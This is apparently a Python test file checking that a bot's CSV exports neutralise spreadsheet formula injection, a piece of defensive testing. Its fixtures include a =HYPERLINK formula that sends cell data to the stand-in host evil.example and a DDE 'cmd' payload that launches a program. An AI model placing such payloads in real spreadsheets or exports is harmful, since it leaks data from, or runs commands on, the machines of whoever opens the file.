"""CSV exports cannot smuggle spreadsheet formulas: cells starting with = + - @, a tab or a
carriage return are written with a leading ' by the one CSV writer every export uses."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from bot.app.cli import main
from bot.core.csv_export import csv_writer, neutralize
from tests.support import SandboxHarness

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我领券")'
HOSTILE_TAGS = ["@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "=1+1"]


def test_formula_cells_are_neutralised_and_others_kept():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "+1", "-1", "@x", "\tx", "\rx", "小林", "a=b", 12, -3, None, ""])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "小林", "a=b", "12", "-3", "", ""]
    assert neutralize(-3) == -3 and neutralize("＝1") == "＝1"


async def test_tags_export_neutralises_names_and_tags_customers_chose(
    config, sqlite_db, clock, tmp_path
):
    h = SandboxHarness(config, sqlite_db, clock)
    await h.say("evil", "周末去哪玩", name=HOSTILE_NAME)
    tags = tmp_path / "tags.csv"
    with tags.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)  # the attacker's own file: raw csv on purpose
        w.writerow(["customer", "phone", "tag", "ttl_days"])
        for tag in HOSTILE_TAGS:
            w.writerow(["sandbox:evil", "", tag, ""])
    cfg = tmp_path / "siyu.toml"
    cfg.write_text(f'[database]\nurl = "{sqlite_db.url}"\n')
    assert main(["tags", "import", str(tags), "--config", str(cfg)]) == 0
    exported = tmp_path / "export.csv"
    assert main(["tags", "export", "-o", str(exported), "--config", str(cfg)]) == 0
    rows = list(csv.reader(exported.open(encoding="utf-8", newline="")))
    assert rows[0][:3] == ["customer_id", "display_name", "tag"]
    names = {r[1] for r in rows[1:]}
    assert names == {"'" + HOSTILE_NAME}
    exported_tags = {r[2] for r in rows[1:]}
    assert {"'" + t for t in HOSTILE_TAGS if t.strip() == t} <= exported_tags
    assert "周末出游" in exported_tags  # an ordinary tag is written as it is
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_every_csv_writer_is_the_neutralising_one():
    """No module writes CSV around bot.core.csv_export (one function for all writers)."""
    offenders = []
    for path in [
        *ROOT.glob("bot/**/*.py"),
        *ROOT.glob("handlers/**/*.py"),
        *ROOT.glob("scheduler/**/*.py"),
    ]:
        if path.name == "csv_export.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
